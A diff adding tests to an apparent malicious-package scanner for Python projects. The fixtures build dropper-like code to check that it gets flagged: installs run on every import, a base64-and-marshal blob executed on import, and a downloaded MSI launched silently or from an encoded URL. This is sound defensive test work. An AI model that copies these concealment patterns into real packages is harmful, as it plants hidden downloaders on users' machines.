@@ -1448,3 +1448,179 @@ def test_a_module_level_autostart_path_a_function_copies_into_is_persistence():
     result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/boot.py": src})
     [hit] = found(result, "intent.persistence")
     assert "shutil.copy" in hit.evidence
+
+
+# -- an install reached on import only through a guarded call (a missing import) repairs too ------
+
+_CHECKS = """
+import subprocess
+import sys
+
+def check_requirements(pkgs, install=True):
+    def attempt_install(packages):
+        return subprocess.check_output([sys.executable, "-m", "pip", "install", *packages])
+    if install:
+        return attempt_install(pkgs)
+"""
+
+
+def test_an_install_reached_on_import_only_from_an_except_handler_is_a_repair():
+    user = """
+    try:
+        import lap
+    except ImportError:
+        from demo.checks import check_requirements
+        check_requirements(["lap>=0.5"])
+    """
+    files = {"setup.py": SETUP, "demo/__init__.py": user, "demo/checks.py": _CHECKS}
+    result = scan(files)
+    assert {f.severity for f in found(result, "intent.download-execute")} == {"medium"}
+    assert result.verdict not in FLAGGED
+
+
+def test_the_same_install_reached_by_a_call_on_every_import_is_a_second_stage():
+    user = """
+    from demo.checks import check_requirements
+    check_requirements(["colourful-logs"])
+    """
+    for checks in (_CHECKS, _CHECKS.replace("    if install:\n        return", "    return")):
+        files = {"setup.py": SETUP, "demo/__init__.py": user, "demo/checks.py": checks}
+        result = scan(files)
+        severities = {f.severity for f in found(result, "intent.download-execute")}
+        # the helper's own `if install:` still guards it; without it, every import installs
+        assert severities == ({"medium"} if "if install" in checks else {"high"}), checks
+    hostile = _CHECKS.replace("    if install:\n        return", "    return") + (
+        "\ncheck_requirements(['colourful-logs'])\n"
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": hostile})
+    assert {f.severity for f in found(result, "intent.download-execute")} == {"high"}
+    assert result.verdict in FLAGGED
+
+
+# -- code received over a pipe the caller hands in is not a hidden payload; unmarshalling alone
+# -- runs nothing ----------------------------------------------------------------------------------
+
+
+def test_code_read_from_a_stream_the_caller_hands_in_is_only_a_warning():
+    src = """
+    import types
+    from base64 import b64decode
+    from marshal import loads
+
+    def run_next(read_fh, write_fh):
+        first_line = read_fh.readline()
+        code = loads(b64decode(first_line.strip()))
+        args = loads(b64decode(read_fh.readline().strip()))
+        function = types.FunctionType(code, {"__builtins__": __builtins__})
+        write_fh.write(repr(function(*args)).encode())
+
+    def result(handle):
+        ok, output = loads(b64decode(handle.readline()))
+        return output
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/isolated.py": src})
+    hits = found(result, "intent.decode-execute")
+    assert [(f.line, f.severity) for f in hits] == [(10, "medium")]
+    assert "data it is handed" in hits[0].message
+    assert result.verdict not in FLAGGED
+
+
+def test_a_blob_shipped_in_the_module_read_through_a_stream_stays_hidden_code():
+    src = """
+    import io
+    import types
+    from base64 import b64decode
+    from marshal import loads
+
+    BLOB = io.BytesIO(b"YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=\\n")
+
+    def run_next():
+        first_line = BLOB.readline()
+        code = loads(b64decode(first_line.strip()))
+        types.FunctionType(code, globals())()
+
+    run_next()
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
+    hits = found(result, "intent.decode-execute")
+    assert hits and all(f.severity == "critical" for f in hits)
+    assert "hidden data" in hits[0].message
+    assert result.verdict in FLAGGED
+
+
+# -- a download run on request in plain sight (an updater, a data recipe) is a warning; a dropper
+# -- waiting to be called hides ------------------------------------------------------------------
+
+_UPDATER = """
+import os
+import subprocess
+import tempfile
+
+import requests
+
+MSI_URL = "https://downloads.example-vendor.com/tool-latest.msi"
+
+def _download(url, folder):
+    r = requests.get(url, stream=True)
+    if r.status_code != 200:
+        raise RuntimeError(f"download of {url} failed: {r.status_code}")
+    path = os.path.join(folder, r.url.rsplit("/")[-1])  # the name the redirect ends at
+    with open(path, "wb") as f:
+        for chunk in r.iter_content(1024):
+            f.write(chunk)
+    return path
+
+def upgrade():
+    print("Updating the tool with the installer from", MSI_URL)
+    path = _download(MSI_URL, tempfile.mkdtemp())
+    subprocess.Popen(["msiexec.exe", "/i", path])
+"""
+
+
+def test_a_self_updater_run_on_request_in_plain_sight_is_a_warning():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/update.py": _UPDATER})
+    hits = found(result, "intent.download-execute")
+    assert hits and {f.severity for f in hits} == {"medium"}
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "hide",
+    [
+        # every error swallowed
+        (
+            '    subprocess.Popen(["msiexec.exe", "/i", path])\n',
+            '    try:\n        subprocess.Popen(["msiexec.exe", "/i", path])\n'
+            "    except Exception:\n        pass\n",
+        ),
+        # no window, no prompt
+        (
+            'subprocess.Popen(["msiexec.exe", "/i", path])',
+            'subprocess.Popen(["msiexec.exe", "/i", path, "/qn"], '
+            "creationflags=subprocess.CREATE_NO_WINDOW)",
+        ),
+        # the address is decoded
+        (
+            'MSI_URL = "https://downloads.example-vendor.com/tool-latest.msi"',
+            "import base64\nMSI_URL = base64.b64decode("
+            '"aHR0cHM6Ly9kb3dubG9hZHMuZXhhbXBsZS12ZW5kb3IuY29tL3Rvb2wtbGF0ZXN0Lm1zaQ==").decode()',
+        ),
+    ],
+)
+def test_the_same_download_run_hidden_stays_serious(hide):
+    old, new = hide
+    assert old in _UPDATER
+    hostile = _UPDATER.replace(old, new)
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/update.py": hostile})
+    # a decoded address makes it decoded code run: reported as that
+    hits = found(result, "intent.download-execute") or found(result, "intent.decode-execute")
+    assert hits and {f.severity for f in hits} == {"high"}
+    assert result.verdict in FLAGGED
+
+
+def test_the_same_updater_run_on_import_stays_serious():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _UPDATER + "\nupgrade()\n"})
+    hits = found(result, "intent.download-execute")
+    assert hits and {f.severity for f in hits} == {"critical"}
+    assert result.verdict == "malicious"
+
